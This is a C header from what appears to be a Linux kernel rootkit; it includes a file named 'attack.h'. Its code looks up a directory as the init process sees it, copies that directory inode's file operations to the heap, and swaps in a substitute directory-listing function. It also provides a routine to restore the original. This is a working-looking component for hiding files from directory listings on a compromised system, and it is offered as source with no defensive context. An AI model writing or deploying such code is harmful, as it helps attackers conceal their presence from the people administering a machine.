/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Gives the inode of a folder a copy of its file operations, on the heap, in which the
 * function that lists it is another one. The kernel's own table stays as it is.
 */
#ifndef FOLDER_H
#define FOLDER_H

#include <linux/fs.h>
#include <linux/fs_struct.h>
#include <linux/namei.h>
#include <linux/pid_namespace.h>
#include <linux/sched.h>
#include <linux/slab.h>

#include "attack.h"

static const struct file_operations *folder_old;
static struct file_operations *folder_copy;
static struct path folder;

/* As the first process sees it: kernel threads have no files to look at by 7.3. */
static inline int folder_find(const char *path)
{
	struct fs_struct *own = current->fs;
	int r;

	current->fs = init_pid_ns.child_reaper->fs;
	r = kern_path(path, LOOKUP_FOLLOW, &folder);
	current->fs = own;
	return r;
}

static inline int folder_hook(const char *path,
			      int (*iterate)(struct file *, struct dir_context *))
{
	int r = folder_find(path);

	if (r)
		return r;
	folder_old = d_inode(folder.dentry)->i_fop;
	folder_copy = folder_old->iterate_shared
			      ? kmemdup(folder_old, sizeof(*folder_old), GFP_KERNEL)
			      : NULL;
	if (!folder_copy) {
		path_put(&folder);
		return -EOPNOTSUPP;
	}
	folder_copy->iterate_shared = iterate;
	d_inode(folder.dentry)->i_fop = folder_copy;
	return 0;
}

/* The copy stays: somebody may have the folder open. */
static inline void folder_unhook(void)
{
	folder_copy->iterate_shared = folder_old->iterate_shared;
	d_inode(folder.dentry)->i_fop = folder_old;
	path_put(&folder);
}

#endif
